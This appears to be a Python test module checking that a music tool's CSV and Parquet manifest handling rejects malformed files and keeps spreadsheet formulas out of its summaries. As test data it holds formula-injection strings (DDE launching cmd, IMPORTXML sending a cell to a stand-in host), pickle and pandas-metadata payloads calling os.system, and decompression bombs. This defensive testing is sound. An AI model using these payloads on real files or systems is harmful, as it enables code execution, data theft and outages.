"""Tables: cells that a spreadsheet would run, CSV and Parquet that are not what they seem."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator, Sequence
from pathlib import Path

from ..case import Case, Outcome, inert, refused
from .made import DRY, TINY, folders, records, run, songs

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@x", "\t=1", "=1\t", " =1+1", "\xa0=1+1", "\ufeff=1", "\u200b=1", "'=1+1", "''=1", "\"=1+1", "\"\"=1", "＝1+1", "＋1", "－1", "＠x",
    "a;=1+1", "a\t=1+1", "a|=1+1", "a\n=1+1", "a\n\n  -1+1", "a,=1+1", "a\";=1+1;\"", "\n=1", "=\n1", "-", "+", "=", "@", "--", "- list",
    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "-2+3+cmd|' /C calc'!D2", "=1+1;=2+2", "%0A=1", "=" * 5000,
)  # fmt: skip
STARTS = frozenset("=+-@＝＋－＠")
SKIPPED = " \t\r\n\0\xa0\ufeff\u200b\u200c\u200d\u2028\u2029\"'"
CSV = ("manifest.path=songs.csv", *DRY)


def cells_of(text: str, delimiter: str) -> Iterator[str]:
    """Every cell of a CSV text, as a program that takes this delimiter reads it."""
    for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from line


def runs(cell: str, skipped: str = SKIPPED.replace("'", "")) -> bool:
    """Whether some spreadsheet takes a cell for a formula: the first character that it does not skip begins one."""
    bare = cell.lstrip(skipped)
    return bare[:1] in STARTS and bare[:1] != "" and not _is_number(bare)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _summary_is_inert(prompt: str):
    def check(outcome: Outcome) -> None:
        import pandas as pd

        (folder,) = folders(outcome)
        text = (folder / "summary.csv").read_text(encoding="utf-8")
        for delimiter in ",;\t|":
            for cell in cells_of(text, delimiter):
                assert not runs(cell), (delimiter, cell[:80])
        assert [record["prompt"] for record in records(outcome)] == [prompt.replace("\r", "\n")]
        assert list(pd.read_parquet(folder / "summary.parquet")["prompt"]) == [prompt.replace("\r", "\n")]
        assert len(pd.read_csv(folder / "summary.csv")) == 1

    return check


def _sweep_is_inert(outcome: Outcome) -> None:
    (folder,) = folders(outcome)
    text = (folder / "summary.csv").read_text(encoding="utf-8")
    assert "sweep." in text
    for delimiter in ",;\t|":
        assert not any(map(runs, cells_of(text, delimiter)))


def cases() -> Iterator[Case]:
    """Every case of this file."""
    for number, formula in enumerate(FORMULAS):
        yield inert(
            "formula",
            f"prompt-{number}",
            songs({"id": "a", "prompt": formula}),
            *run(),
            check=_summary_is_inert(formula),
        )
    for number, formula in enumerate(("=1+1", "@x", "-1+1", "a;=1", "a|=1", "'=1")):
        yield inert(
            "formula", f"id-{number}", songs({"id": formula, "prompt": "pop"}), *run(), check=_summary_is_inert("pop")
        )
    yield inert("formula", "words-of-a-sweep", songs({"id": "a"}), *run("-m", "generation.prompt='=1+1','@x','a;-1'"),
                check=_sweep_is_inert)  # fmt: skip
    yield inert("formula", "error-of-a-row", songs({"id": "a", "prompt": "pop"}, {"id": "=1+1;=2", "cfg_type": "=1;=2"}),
                *run("on_invalid=skip"), codes=(1,), check=_every_cell_is_inert)  # fmt: skip
    yield inert("formula", "in-a-csv-manifest", {"songs.csv": "id;prompt\r\na;=1+1\r\nb;\"=2\"\r\n"}, "manifest.path=songs.csv", *TINY,
                check=_every_cell_is_inert)  # fmt: skip

    def no(name: str, text: str | bytes, *says: str) -> Case:
        return refused("csv", name, {"songs.csv": text}, *CSV, says=says or ("songs.csv",))

    yield no("formula-as-a-header", "id,=1+1\na,b\n", "songs.csv header, column =1+1")
    yield no("header-of-many-lines", 'id,"a\nerror: b\x1b[31m"\na,b\n', "songs.csv header")
    yield no("header-twice", "id,prompt,prompt\na,b,c\n", "songs.csv header", "twice")
    yield no("header-twice-with-escapes", "id,\x1b[2J,\x1b[2J\na,b,c\n", "songs.csv header", "twice")
    yield no("header-without-names", "id,,\na,b,c\n", "songs.csv header")
    yield no(
        "header-of-ten-thousand-names", ",".join(f"k{number}" for number in range(10_000)) + "\n", "songs.csv header"
    )
    yield no("header-of-equal-names", ",".join(["k"] * 10_000) + "\n", "songs.csv header")
    yield no("header-as-long-as-a-book", "k" * 60_000 + "\n", "songs.csv header")
    yield no("header-longer-than-a-cell", "k" * 200_000 + "\n")
    yield no("header-of-quotes", '"' * 60_001 + "\n")
    yield no("endless-quotes", 'id,prompt\na,"' + "x" * 200_000, "songs.csv line")
    yield no("cell-larger-than-any", "id,prompt\na," + "x" * 200_000 + "\n", "songs.csv line")
    yield no("quote-in-the-middle", 'id,prompt\na,"b"c\n', "songs.csv line")
    yield no("too-many-cells", "id,prompt\na,b,c,d\n", "songs.csv row 1", "has 4 cells")
    yield no("too-few-cells", "id,prompt\na\n", "songs.csv row 1", "has 1 cells")
    yield no("a-thousand-cells-too-many", "id,prompt\n" + "," * 100_000 + "\n", "songs.csv row 1")
    yield no("nul", "id,prompt\na,b\0c\n")
    yield no("nul-alone", "\0" * 10_000)
    yield no("not-utf-8", b"id,prompt\na,\xff\n", "not UTF-8")
    yield no("not-utf-8-far-down", b"id,prompt\n" + b"a,b\n" * 10_000 + b"\xff", "not UTF-8")
    yield no("utf-16", "id,prompt\na,b\n".encode("utf-16"), "not UTF-8")
    yield no("utf-16-without-bom", "id,prompt\na,b\n".encode("utf-16-le"))
    yield no("empty", "")
    yield no("bom-alone", b"\xef\xbb\xbf")
    yield no("blank-lines", "\n" * 100_000)
    yield no("header-alone", "id,prompt\n")
    yield no("separator-line", "sep=;\nid;prompt\na;b\n", "songs.csv header")
    yield no("an-archive", b"PK\x03\x04" + bytes(range(256)) * 10)
    yield no("same-ids", "id,prompt\n" + "a,b\n" * 2_000, "is the id of row 1 too")
    yield no("lines-of-other-systems", "id,prompt\x0ba,b\x0c", "songs.csv header")
    yield refused("csv", "a-pipe", _pipe, *CSV, says=("manifest.path=songs.csv",))
    yield refused("csv", "a-device", {}, "manifest.path=/dev/zero", *DRY, says=("manifest.path=/dev/zero",))
    yield refused("csv", "its-own-summary", _summary_of_a_run, "manifest.path=outputs/songs/v0001/summary.csv", *DRY,
                  says=("summary.csv: is the summary", "manifest.jsonl"))  # fmt: skip
    yield inert("csv", "many-empty-cells", {"songs.csv": "id,prompt\na,b\n" + "  ,\t\n" * 20_000}, *CSV)

    for name, content in _parquet_texts():
        yield refused(
            "parquet", name, {"songs.parquet": content}, "manifest.path=songs.parquet", *DRY, says=("songs.parquet",)
        )
    for name, prepare, says in (
        ("nested", _nested, "songs.parquet row 1, column prompt"), ("bytes", _bytes, "songs.parquet row 1, column prompt"),
        ("unknown-columns", _unknown_columns, "songs.parquet header"), ("cut", _cut, "songs.parquet"),
        ("flipped", _flipped, "songs.parquet"), ("rows-in-one-text", _zip_bomb, "songs.parquet"),
        ("list-of-millions", _list_bomb, "songs.parquet"), ("column-twice", _column_twice, "songs.parquet header"),
        ("dates", _dates, "songs.parquet row 1, column seed"),
    ):  # fmt: skip
        yield refused("parquet", name, prepare, "manifest.path=songs.parquet", *DRY, says=(says,))
    yield inert("parquet", "pickled-type", _pickled_type, "manifest.path=songs.parquet", *DRY)
    yield inert("parquet", "pandas-metadata", _pandas_metadata, "manifest.path=songs.parquet", *DRY)
    yield inert("parquet", "formula", _formula, "manifest.path=songs.parquet", *TINY, check=_every_cell_is_inert)


def _every_cell_is_inert(outcome: Outcome) -> None:
    (folder,) = folders(outcome)
    text = (folder / "summary.csv").read_text(encoding="utf-8")
    for delimiter in ",;\t|":
        for cell in cells_of(text, delimiter):
            assert not runs(cell), (delimiter, cell[:80])


def _pipe(folder: Path) -> None:
    import os

    os.mkfifo(folder / "songs.csv")


def _summary_of_a_run(folder: Path) -> None:
    from .runs import finished_run

    finished_run(folder, {"id": "a", "prompt": "=1+1"})


def _parquet_texts() -> Sequence[tuple[str, bytes]]:
    return (
        ("empty", b""), ("magic-alone", b"PAR1"), ("magic-twice", b"PAR1PAR1"), ("length-lies", b"PAR1" + b"\xff" * 8 + b"PAR1"),
        ("length-lies-low", b"PAR1" + bytes(100) + b"\x40\0\0\0PAR1"), ("encrypted", b"PARE" + bytes(100) + b"PARE"),
        ("text", b"id,prompt\n"), ("a-zip", b"PK\x03\x04" + bytes(100)),
    )  # fmt: skip


def _write(folder: Path, rows: Sequence[dict[str, object]], **options: object) -> None:
    import pyarrow as pa
    import pyarrow.parquet

    pa.parquet.write_table(pa.Table.from_pylist(list(rows)), folder / "songs.parquet", **options)


def _nested(folder: Path) -> None:
    _write(folder, [{"id": "a", "prompt": {"_target_": "os.system", "x": [[1], [2]]}}])


def _bytes(folder: Path) -> None:
    _write(folder, [{"id": "a", "prompt": b"\xff\0"}])


def _dates(folder: Path) -> None:
    from datetime import UTC, datetime

    _write(folder, [{"id": "a", "seed": datetime(2020, 1, 1, tzinfo=UTC)}])


def _unknown_columns(folder: Path) -> None:
    _write(folder, [{f"k{number}\n\x1b[31m": 1 for number in range(2_000)}])


def _column_twice(folder: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet

    pa.parquet.write_table(pa.table([["a"], ["b"]], names=["prompt", "prompt"]), folder / "songs.parquet")


def _formula(folder: Path) -> None:
    _write(folder, [{"id": "a", "prompt": "=1+1;=2"}])


def _cut(folder: Path) -> None:
    _write(folder, [{"id": str(number), "prompt": "pop" * number} for number in range(100)])
    content = (folder / "songs.parquet").read_bytes()
    (folder / "songs.parquet").write_bytes(content[:200] + content[400:])


def _flipped(folder: Path) -> None:
    _write(folder, [{"id": str(number), "prompt": "pop" * number} for number in range(100)], compression="none")
    content = bytearray((folder / "songs.parquet").read_bytes())
    content[4:60] = b"\xff" * 56
    (folder / "songs.parquet").write_bytes(bytes(content))


def _zip_bomb(folder: Path) -> None:
    """Some kilobytes that hold a text of a gigabyte."""
    _write(
        folder, [{"id": "a", "prompt": "x" * 2**26}], compression="zstd", use_dictionary=False, write_statistics=False
    )


def _list_bomb(folder: Path) -> None:
    """Some kilobytes that hold a list of twenty million numbers."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet

    count = 20_000_000
    seeds = pa.ListArray.from_arrays(pa.array([0, count], pa.int32()), pa.array(np.zeros(count, np.int8)))
    pa.parquet.write_table(pa.table({"id": ["a"], "seed": seeds}), folder / "songs.parquet", compression="zstd")


def _pickled_type(folder: Path) -> None:
    """The schema of an extension type whose metadata is a pickle, which readers used to load."""
    import pyarrow as pa
    import pyarrow.parquet

    metadata = {b"ARROW:extension:name": b"arrow.py_extension_type",
                b"ARROW:extension:metadata": b"cos\nsystem\n(S'touch pwned'\ntR."}  # fmt: skip
    field = pa.field("prompt", pa.string(), metadata=metadata)
    pa.parquet.write_table(pa.table([["pop"]], schema=pa.schema([field])), folder / "songs.parquet")


def _pandas_metadata(folder: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet

    metadata = {
        b"pandas": json.dumps({"index_columns": ["__import__('os').system('touch pwned')"], "columns": []}).encode()
    }
    pa.parquet.write_table(pa.table({"prompt": ["pop"]}).replace_schema_metadata(metadata), folder / "songs.parquet")
